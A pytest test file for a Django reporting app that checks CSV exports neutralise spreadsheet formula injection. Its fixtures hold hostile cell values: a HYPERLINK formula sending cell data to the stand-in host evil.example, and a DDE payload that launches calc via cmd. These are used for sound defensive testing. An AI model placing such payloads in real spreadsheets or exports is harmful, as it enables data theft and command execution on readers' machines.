"""Issue 14 item 5: no CSV export lets a spreadsheet run a formula. Every export of every report
page is downloaded with hostile names (agent, team, owner, review reason), and no cell may start
with = + - @, tab or carriage return unless it is a plain number."""

from __future__ import annotations

import csv
import io
import re

import pytest

from reports.tables import Column, Link, Table, csv_response, spreadsheet_safe
from tests.reports.test_views import read_pages, with_data  # noqa: F401 - the fixture is reused

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", text) is not None


@pytest.fixture
def hostile(with_data, owner_user):  # noqa: F811
    agent, review = with_data
    agent.name = HOSTILE
    agent.save()
    agent.owner_team.name = "+cmd|' /C calc'!A0"
    agent.owner_team.save()
    owner_user.first_name, owner_user.last_name = "@SUM(1+1)", "-2+3"
    owner_user.save()
    review.reason = "\t=1+1"
    review.save()
    return agent, review


def test_the_neutraliser_quotes_every_formula_trigger_and_keeps_numbers():
    for text in ["=1+1", "+a", "-a", "@x", "\t=1", "\r=1", "-1+1", "\t5"]:
        assert spreadsheet_safe(text) == "'" + text, repr(text)
    for text in ["-12.50", "+3", "42", "plain", ""]:
        assert spreadsheet_safe(text) == text


def test_link_cells_are_neutralised_too():
    table = Table(key="t", title="t", columns=[Column("Agent"), Column("Note")], rows=[[Link(HOSTILE, "/x"), "@x"]])
    rows = list(csv.reader(io.StringIO(csv_response(table, filename="t.csv").content.decode())))
    assert rows[1] == ["'" + HOSTILE, "'@x"]


def test_every_export_of_every_report_page_neutralises_hostile_names(hostile, client, executive_user):
    agent, review = hostile
    client.force_login(executive_user)
    exported = 0
    seen_hostile = False
    for page in read_pages(agent, review):
        response = client.get(page)
        assert response.status_code == 200, page
        for key in sorted(set(re.findall(r'data-testid="csv-([\w-]+)"', response.text))):
            sep = "&" if "?" in page else "?"
            export = client.get(f"{page}{sep}export={key}")
            assert export.status_code == 200, (page, key)
            exported += 1
            for row in csv.reader(io.StringIO(export.content.decode(), newline="")):
                for cell in row:
                    seen_hostile = seen_hostile or cell == "'" + HOSTILE
                    assert not (cell.startswith(TRIGGERS) and not _is_number(cell)), (page, key, cell)
    assert exported >= 10
    # The agents table (a link cell) carried the hostile name, neutralised.
    assert seen_hostile
